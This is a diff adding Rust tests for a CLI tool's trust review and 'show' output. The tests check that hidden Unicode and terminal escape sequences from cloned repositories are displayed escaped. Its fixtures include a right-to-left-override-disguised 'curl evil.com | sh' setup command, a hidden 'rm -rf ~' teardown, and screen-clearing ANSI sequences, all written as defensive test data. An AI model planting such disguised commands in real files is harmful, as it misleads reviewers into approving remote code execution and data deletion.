@@ -1,0 +1,77 @@
+//! Issue 10, fourth pass: what a cloned repository can ship (its
+//! `.sessions.toml`, its file names, the commits and refs its remote serves)
+//! must not run, write or mislead before `sessions trust`.
+
+mod common;
+
+use common::{TestEnv, stderr_of};
+
+/// Characters a terminal does not show as themselves: a C1 CSI, DEL, a
+/// right-to-left override and its isolates, a zero-width space, a line
+/// separator.
+const HIDDEN: [char; 7] = [
+    '\u{9b}', '\u{7f}', '\u{202e}', '\u{2066}', '\u{2069}', '\u{200b}', '\u{2028}',
+];
+
+// The review escaped only C0 controls, and only on a one-word line: a C1
+// CSI (`\u009b2J` clears the screen on terminals that take UTF-8 C1
+// controls) or DEL in an agent argument went out raw inside the JSON list,
+// and a right-to-left override in a setup command showed the command
+// reversed (`; curl ...|sh` read as harmless text), so what the person
+// approved was not what they were shown.
+#[test]
+fn the_trust_review_shows_every_hidden_character() {
+    let env = TestEnv::cloned();
+    env.write(
+        ".sessions.toml",
+        "setup = [\"echo safe \\u202E\\u2066 hs|moc.live//:ptth lruc ;\\u2069\"]\n\
+         teardown = [\"make clean\\u200B\\u2028rm -rf ~\"]\n\
+         [agent]\nargs = [\"--x\\u009B2J\", \"\\u007F\"]\n",
+    );
+    let out = env.sessions().args(["trust"]).output().unwrap();
+    let shown = String::from_utf8_lossy(&out.stdout);
+    assert!(shown.contains("moc.live"), "{shown}{}", stderr_of(&out));
+    assert!(
+        !shown.contains(HIDDEN),
+        "the review shows characters that hide or reorder text: {shown:?}"
+    );
+    for spelled in ["\\u{202e}", "\\u{9b}", "\\u{7f}", "\\u{200b}", "\\u{2028}"] {
+        assert!(shown.contains(spelled), "{spelled} not shown in {shown:?}");
+    }
+    // Plain commands still read as they are.
+    env.write(".sessions.toml", "setup = [\"npm ci\"]\n");
+    let out = env.sessions().args(["trust"]).output().unwrap();
+    let shown = String::from_utf8_lossy(&out.stdout);
+    assert!(shown.contains("  setup: npm ci\n"), "{shown:?}");
+}
+
+// `show` printed commit subjects and file names as the repository has them:
+// a commit on the remote whose subject holds `ESC ]0;...BEL` or `ESC [2J`
+// retitled the window or cleared the screen of whoever looked at a session
+// started from it, and a file named with escapes did the same.
+#[test]
+fn show_never_prints_a_repositorys_escape_sequences() {
+    let env = TestEnv::cloned();
+    let evil = "evil\u{1b}[31mRED";
+    env.commit_in(
+        &env.repo,
+        "a",
+        "x\n",
+        "subject \u{1b}]0;TITLE\u{7} \u{1b}[2J cleared",
+    );
+    env.git(&["push", "-q", "origin", "main"]);
+    env.git(&["fetch", "-q", "origin"]);
+    let dir = env.new_session("s");
+    env.commit_in(&dir, evil, "y\n", "mine \u{1b}[1A");
+    let out = env.sessions().args(["show", "s"]).output().unwrap();
+    let shown = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{}", stderr_of(&out));
+    assert!(
+        shown.contains("TITLE") && shown.contains("mine") && shown.contains("RED"),
+        "{shown:?}"
+    );
+    assert!(
+        !shown.contains(['\u{1b}', '\u{7}']),
+        "show prints raw escape sequences: {shown:?}"
+    );
+}
